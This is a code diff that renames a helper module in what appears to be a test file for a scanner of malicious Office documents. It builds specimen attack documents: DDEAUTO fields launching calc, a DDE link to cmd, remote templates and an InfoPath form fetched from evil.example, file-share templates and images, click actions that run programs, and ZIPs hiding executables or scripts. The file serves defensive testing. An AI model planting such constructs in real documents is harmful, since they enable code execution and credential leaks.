@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-import test_office
+import office_files
 from documents import EXE, docx, instruction, odt, ooxml, word_main, zipped
 from specimens import Specimen
 
@@ -49,7 +49,7 @@ def _content(inside: str, spaces: str = "") -> str:
 def _flat_opc(*parts: str) -> bytes:
     main = (
         f'<pkg:part pkg:name="/_rels/.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml">'
-        f'<pkg:xmlData><Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{test_office.REL}/'
+        f'<pkg:xmlData><Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{office_files.REL}/'
         'officeDocument" Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>'
     )
     return (
@@ -63,8 +63,8 @@ def _part(name: str, content_type: str, data: str, kind: str = "xmlData") -> str
 
 
 def _flat_document(body: str = "") -> str:
-    text = f'<w:document xmlns:w="{test_office.WORD}"><w:body>{body}</w:body></w:document>'
-    return _part("/word/document.xml", test_office.W + "document.main+xml", text)
+    text = f'<w:document xmlns:w="{office_files.WORD}"><w:body>{body}</w:body></w:document>'
+    return _part("/word/document.xml", office_files.W + "document.main+xml", text)
 
 
 def _word_2003(body: str, attributes: str = "") -> bytes:
@@ -83,9 +83,9 @@ def _sheet_2003(inside: str) -> bytes:
 
 def _docx_by_default() -> bytes:
     main = word_main(instruction("DDEAUTO calc"))
-    files = test_office.parts(ooxml("docx", main=main))
+    files = office_files.parts(ooxml("docx", main=main))
     files["word/document.bin"] = files.pop("word/document.xml")
-    declared = test_office.W + "document.main+xml"
+    declared = office_files.W + "document.main+xml"
     for name in ("[Content_Types].xml", "_rels/.rels"):
         files[name] = files[name].replace(b"word/document.xml", b"word/document.bin")
     types = files["[Content_Types].xml"]
@@ -103,11 +103,11 @@ def _docx_in_utf_16() -> bytes:
 
 
 def _settings(element: str, relationship: tuple[str, str, bool]) -> bytes:
-    return test_office.word(
+    return office_files.word(
         "",
-        parts={"word/settings.xml": test_office.settings_part(element)},
+        parts={"word/settings.xml": office_files.settings_part(element)},
         relationships={"word/document.xml": [("settings", "settings.xml", False)], "word/settings.xml": [relationship]},
-        overrides={"word/settings.xml": test_office.W + "settings+xml"},
+        overrides={"word/settings.xml": office_files.W + "settings+xml"},
     )
 
 
@@ -119,7 +119,7 @@ def acts():
     template = _part(
         "/word/_rels/settings.xml.rels",
         "application/vnd.openxmlformats-package.relationships+xml",
-        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{test_office.REL}/attachedTemplate" '
+        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{office_files.REL}/attachedTemplate" '
         'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
     )
     types = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
@@ -150,7 +150,9 @@ def acts():
     flat = {
         "Flat OPC with a remote template": _flat_opc(
             _flat_document(),
-            _part("/word/settings.xml", test_office.W + "settings+xml", f'<w:settings xmlns:w="{test_office.WORD}"/>'),
+            _part(
+                "/word/settings.xml", office_files.W + "settings+xml", f'<w:settings xmlns:w="{office_files.WORD}"/>'
+            ),
             template,
         ),
         "Flat OPC with DDE": _flat_opc(_flat_document(instruction("DDEAUTO calc"))),
@@ -179,7 +181,7 @@ def acts():
         "namespace hidden by a reference": _word_2003("<w:docSuppData/>").replace(b"office/word", b"office&#47;word"),
         "InfoPath form": b"<?xml version='1.0'?><?mso-infoPathSolution href='https://evil.example/x.xsn'?><a/>",
     }
-    link = f'<e-x:externalLink xmlns:e-x="{test_office.MAIN}"><e-x:ddeLink ddeService="cmd" ddeTopic="x"/></e-x:externalLink>'
+    link = f'<e-x:externalLink xmlns:e-x="{office_files.MAIN}"><e-x:ddeLink ddeService="cmd" ddeTopic="x"/></e-x:externalLink>'
     packages = {
         "program in a ZIP that poses as a document": zipped({"[Content_Types].xml": types, "evil.exe": EXE}),
         "script in a ZIP that poses as a document": zipped({"[content_types].XML": b"<x/>", "evil.js": b"alert(1)"}),
@@ -193,16 +195,16 @@ def acts():
         "two documents behind each other": zipped({"evil.exe": EXE}) + docx(),
         "main part by default type": _docx_by_default(),
         "field in UTF-16 behind Japanese": _docx_in_utf_16(),
-        "DDE link under another prefix": test_office.workbook(
+        "DDE link under another prefix": office_files.workbook(
             "",
             parts={"xl/externalLinks/externalLink1.xml": link.encode()},
             relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)]},
-            overrides={"xl/externalLinks/externalLink1.xml": test_office.S + "externalLink+xml"},
+            overrides={"xl/externalLinks/externalLink1.xml": office_files.S + "externalLink+xml"},
         ),
-        "program on click by a reference": test_office.slide(
+        "program on click by a reference": office_files.slide(
             click='<a:hlinkClick r:id="" action="ppaction&#58;//program"/>'
         ),
-        "program on click with a link": test_office.slide(
+        "program on click with a link": office_files.slide(
             click='<a:hlinkClick r:id="rId1" action="ppaction://program"/>',
             relationships=[("hyperlink", "file:///c:/windows/calc.exe", True)],
         ),
@@ -213,9 +215,9 @@ def acts():
         "template on a share": _settings(
             '<w:attachedTemplate r:id="rId1"/>', ("attachedTemplate", "file:///\\\\evil\\t.dotm", True)
         ),
-        "picture on a share": test_office.slide(relationships=[("image", "file://evil/x.png", True)]),
+        "picture on a share": office_files.slide(relationships=[("image", "file://evil/x.png", True)]),
     }
-    threats = {name: made[0] for name, made in test_office.THREATS.items()}
+    threats = {name: made[0] for name, made in office_files.THREATS.items()}
     return {name: Specimen(content, "a.bin") for name, content in {**threats, **odf, **flat, **packages}.items()}
 
 
@@ -225,19 +227,19 @@ def ordinary():
     return {
         name: Specimen(content, name)
         for name, content in {
-            "letter.docx": test_office.word("<w:p><w:r><w:t>a letter about DDEAUTO and mailMerge</w:t></w:r></w:p>"),
-            "sheet.xlsx": test_office.workbook('<c r="A1"><v>1</v></c>'),
-            "talk.pptx": test_office.slide(),
-            "printer.xlsx": test_office.workbook(
+            "letter.docx": office_files.word("<w:p><w:r><w:t>a letter about DDEAUTO and mailMerge</w:t></w:r></w:p>"),
+            "sheet.xlsx": office_files.workbook('<c r="A1"><v>1</v></c>'),
+            "talk.pptx": office_files.slide(),
+            "printer.xlsx": office_files.workbook(
                 "",
                 parts={"xl/printerSettings/p1.bin": bytes(200)},
                 relationships={
                     "xl/worksheets/sheet1.xml": [("printerSettings", "../printerSettings/p1.bin", False)],
                 },
-                overrides={"xl/printerSettings/p1.bin": test_office.S + "printerSettings"},
+                overrides={"xl/printerSettings/p1.bin": office_files.S + "printerSettings"},
             ),
-            "links.docx": test_office.word(instruction(code) + instruction("PAGE \\* Arabic")),
-            "formulas.xlsx": test_office.workbook('<c r="A1"><f>SUM(B1:B9)&amp;"a|b"</f><v>1</v></c>'),
+            "links.docx": office_files.word(instruction(code) + instruction("PAGE \\* Arabic")),
+            "formulas.xlsx": office_files.workbook('<c r="A1"><f>SUM(B1:B9)&amp;"a|b"</f><v>1</v></c>'),
             "letter.odt": odt(),
             "flat.fodt": f"<?xml version='1.0'?><office:document xmlns:office='{O}:office:1.0'/>".encode(),
             "letter in Word 2003 XML": _word_2003("<w:body><w:p><w:r><w:t>a</w:t></w:r></w:p></w:body>"),
